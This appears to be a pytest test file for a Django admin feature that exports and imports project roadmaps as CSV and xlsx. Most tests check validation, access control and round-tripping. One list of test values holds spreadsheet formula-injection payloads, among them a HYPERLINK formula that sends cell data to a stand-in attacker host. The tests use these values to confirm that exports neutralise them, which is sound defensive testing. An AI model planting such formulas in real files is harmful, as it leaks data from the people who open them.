"""A roadmap goes out as xlsx or CSV and comes back in: all of it, or none of it."""

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from pytest_django.asserts import assertContains

from chantiers import spreadsheets
from chantiers.models import RoadmapAction


def export(client, chantier, fmt) -> bytes:
    response = client.get(reverse("admin:chantiers_chantier_roadmap_export", args=[chantier.pk, fmt]))
    assert response.status_code == 200
    return response.content


def import_file(client, chantier, content: bytes, name: str):
    return client.post(
        reverse("admin:chantiers_chantier_roadmap_import", args=[chantier.pk]),
        {"file": SimpleUploadedFile(name, content)},
    )


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def row(**values) -> list:
    """A row in the export's column order; columns not given are empty."""
    return [values.get(column, "") for column in spreadsheets.COLUMNS]


COL = {column: index for index, column in enumerate(spreadsheets.COLUMNS)}


def test_the_export_holds_what_is_on_screen(client, laval_coordinator, laval):
    client.force_login(laval_coordinator)
    rows = csv_rows(export(client, laval, "csv"))
    assert rows[0] == spreadsheets.COLUMNS
    assert len(rows) == 1 + laval.actions.count()
    last = dict(zip(rows[0], rows[-1], strict=True))
    assert [last["title_fr"], last["title_en"], last["status"], last["progress"]] == [
        "Former le comité de pilotage partenarial",
        "Form the partnership steering committee",
        "in_progress",
        "60",
    ]
    sheet = load_workbook(io.BytesIO(export(client, laval, "xlsx"))).worksheets[0]
    assert [cell.value for cell in sheet[1]] == spreadsheets.COLUMNS
    assert sheet.max_row == 1 + laval.actions.count()


def test_a_good_file_round_trips_unchanged(client, owner, laval):
    client.force_login(owner)
    before = list(RoadmapAction.objects.filter(chantier=laval).values().order_by("pk"))
    histories = RoadmapAction.history.count()
    for fmt in ["csv", "xlsx"]:
        response = import_file(client, laval, export(client, laval, fmt), f"roadmap.{fmt}")
        assert response.status_code == 302, response.content.decode()[:2000]
    assert list(RoadmapAction.objects.filter(chantier=laval).values().order_by("pk")) == before
    assert RoadmapAction.history.count() == histories  # nothing was saved again


def test_an_edited_file_updates_and_adds(client, owner, laval):
    client.force_login(owner)
    rows = csv_rows(export(client, laval, "csv"))
    rows[1][COL["progress"]] = "95"
    rows.append(
        row(
            theme="energie",
            title_fr="Installer des panneaux solaires",
            status="planned",
            progress="0",
            target_date="2027-06-30",
            order="9",
            is_published="non",
        )
    )
    response = import_file(client, laval, spreadsheets.to_csv(rows), "roadmap.csv")
    assert response.status_code == 302
    assert RoadmapAction.objects.get(pk=rows[1][0]).progress == 95
    added = RoadmapAction.objects.get(title_fr="Installer des panneaux solaires")
    assert added.chantier == laval and str(added.target_date) == "2027-06-30" and not added.is_published


def test_one_bad_row_imports_nothing_and_is_named(client, owner, laval):
    client.force_login(owner)
    rows = csv_rows(export(client, laval, "csv"))
    rows[1][COL["progress"]] = "80"  # a good change…
    rows[3][COL["progress"]] = "150"  # …and a bad one
    rows[4][COL["theme"]] = "astrologie"
    rows.append(
        row(theme="energie", status="planned", progress="0", target_date="demain", order="1", is_published="peut-être")
    )
    response = import_file(client, laval, spreadsheets.to_csv(rows), "roadmap.csv")
    assert response.status_code == 400
    page = response.content.decode()
    assert "Rien n’a été importé" in page
    assert "Ligne 4, colonne « progress »" in page
    assert "Ligne 5, colonne « theme »" in page
    assert "Ligne 8, colonne « title_fr »" in page
    assert "Ligne 8, colonne « target_date »" in page
    assert "Ligne 8, colonne « is_published »" in page
    assert RoadmapAction.objects.get(pk=rows[1][0]).progress != 80


def test_a_row_pointing_at_another_chantiers_action_is_refused(client, owner, laval, lachine):
    client.force_login(owner)
    intruder = lachine.actions.first()
    rows = [
        spreadsheets.COLUMNS,
        row(
            id=intruder.pk,
            theme="energie",
            title_fr="Piraté",
            status="done",
            progress="100",
            order="0",
            is_published="oui",
        ),
    ]
    response = import_file(client, laval, spreadsheets.to_csv(rows), "roadmap.csv")
    assert response.status_code == 400
    assert f"aucune action {intruder.pk} dans ce Chantier" in response.content.decode()
    intruder.refresh_from_db()
    assert intruder.title != "Piraté"


def test_files_that_are_not_spreadsheets_are_refused(client, owner, laval):
    client.force_login(owner)
    assert "Colonnes manquantes" in import_file(client, laval, b"nom,prenom\nA,B\n", "x.csv").content.decode()
    assert "ni un classeur xlsx" in import_file(client, laval, b"PK\x03\x04garbage", "x.xlsx").content.decode()
    assert "ni un classeur xlsx" in import_file(client, laval, b"\xff\xfe\x00bin", "x.csv").content.decode()


def test_another_chantiers_coordinator_can_neither_export_nor_import(client, outsider, laval):
    client.force_login(outsider)
    export = client.get(reverse("admin:chantiers_chantier_roadmap_export", args=[laval.pk, "csv"]))
    assertContains(export, "Page introuvable", status_code=404)
    rows = [
        spreadsheets.COLUMNS,
        row(theme="energie", title_fr="Intrus", status="planned", progress="0", order="0", is_published="oui"),
    ]
    assertContains(import_file(client, laval, spreadsheets.to_csv(rows), "r.csv"), "Page introuvable", status_code=404)
    assert not RoadmapAction.objects.filter(title_fr="Intrus").exists()


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")', "+1+1", "-2+3", "@SUM(A1:A9)", "=1+1"]


def formula_actions(chantier) -> list[RoadmapAction]:
    action = chantier.actions.first()
    actions = []
    for n, text in enumerate(FORMULAS):
        action.pk = None
        action.title = text
        action.description = text
        action.order = 100 + n
        action.save()
        actions.append(RoadmapAction.objects.get(pk=action.pk))
    return actions


def test_the_xlsx_export_holds_no_formula_and_keeps_the_text_as_typed(client, owner, laval):
    formula_actions(laval)
    client.force_login(owner)
    sheet = load_workbook(io.BytesIO(export(client, laval, "xlsx"))).active  # formulas are kept, not evaluated
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    titles = [row[2].value for row in sheet.iter_rows(min_row=2)]
    assert set(FORMULAS) <= set(titles)  # stored as text, exactly as typed


def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(client, owner, laval):
    formula_actions(laval)
    client.force_login(owner)
    rows = csv_rows(export(client, laval, "csv"))
    titles = [row[2] for row in rows[1:]]
    assert not [title for title in titles if title[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert {"'" + text for text in FORMULAS} <= set(titles)


def test_neutralised_exports_come_back_in_unchanged(client, owner, laval):
    formula_actions(laval)
    client.force_login(owner)
    before = list(RoadmapAction.objects.filter(chantier=laval).values().order_by("pk"))
    for fmt in ["csv", "xlsx"]:
        response = import_file(client, laval, export(client, laval, fmt), f"roadmap.{fmt}")
        assert response.status_code == 302, response.content.decode()[:2000]
    assert list(RoadmapAction.objects.filter(chantier=laval).values().order_by("pk")) == before


def test_the_import_takes_the_labels_people_see_as_well_as_the_codes(client, owner, laval):
    client.force_login(owner)
    rows = csv_rows(export(client, laval, "csv"))
    rows[1][COL["status"]] = "En cours"
    rows[2][COL["status"]] = "in progress"
    rows[3][COL["status"]] = "RÉALISÉE"
    rows[3][COL["progress"]] = "100"
    rows[1][COL["theme"]] = "Énergie"
    rows[2][COL["theme"]] = "energy"
    response = import_file(client, laval, spreadsheets.to_csv(rows), "roadmap.csv")
    assert response.status_code == 302, response.content.decode()[:2000]
    first, second, third = (RoadmapAction.objects.get(pk=rows[n][0]) for n in (1, 2, 3))
    assert (first.status, second.status, third.status) == ("in_progress", "in_progress", "done")
    assert first.theme.slug == second.theme.slug == "energie"


def test_an_unknown_label_is_still_named_as_an_error(client, owner, laval):
    client.force_login(owner)
    rows = csv_rows(export(client, laval, "csv"))
    rows[1][COL["status"]] = "Presque fini"
    response = import_file(client, laval, spreadsheets.to_csv(rows), "roadmap.csv")
    assert response.status_code == 400
    assert "Ligne 2, colonne « status »" in response.content.decode()


def validations(sheet) -> dict[str, str]:
    return {str(v.sqref).split(":")[0].rstrip("0123456789"): v.formula1 for v in sheet.data_validations.dataValidation}


def test_the_xlsx_speaks_the_coordinator_s_language_with_drop_downs_and_a_legend(client, owner, laval):
    client.force_login(owner)
    french = load_workbook(io.BytesIO(export(client, laval, "xlsx")))
    assert french.sheetnames == ["Feuille de route", "Légende"]
    sheet, legend = french.worksheets
    status_column = sheet.cell(row=1, column=COL["status"] + 1).column_letter
    theme_column = sheet.cell(row=1, column=COL["theme"] + 1).column_letter
    statuses = {sheet.cell(row=r, column=COL["status"] + 1).value for r in range(2, sheet.max_row + 1)}
    assert "En cours" in statuses and "in_progress" not in statuses
    assert validations(sheet) == {status_column: "'Légende'!$A$2:$A$6", theme_column: "'Légende'!$D$2:$D$15"}
    assert [cell.value for cell in legend[1]] == ["Statut", "Code", None, "Thème", "Code"]
    assert [legend.cell(row=r, column=1).value for r in range(2, 7)] == [
        "Proposée",
        "Planifiée",
        "En cours",
        "Réalisée",
        "Abandonnée",
    ]
    assert legend["B4"].value == "in_progress"
    assert legend["D2"].value == "Territoires et biodiversité"

    response = client.get("/en" + reverse("admin:chantiers_chantier_roadmap_export", args=[laval.pk, "xlsx"]))
    english = load_workbook(io.BytesIO(response.content))
    assert english.sheetnames == ["Roadmap", "Legend"]
    assert english["Legend"]["A4"].value == "In progress"
    assert validations(english["Roadmap"])[status_column] == "'Legend'!$A$2:$A$6"
    english_statuses = {english["Roadmap"].cell(row=r, column=COL["status"] + 1).value for r in range(2, 4)}
    assert english_statuses <= {"Proposed", "Planned", "In progress", "Done", "Abandoned"}
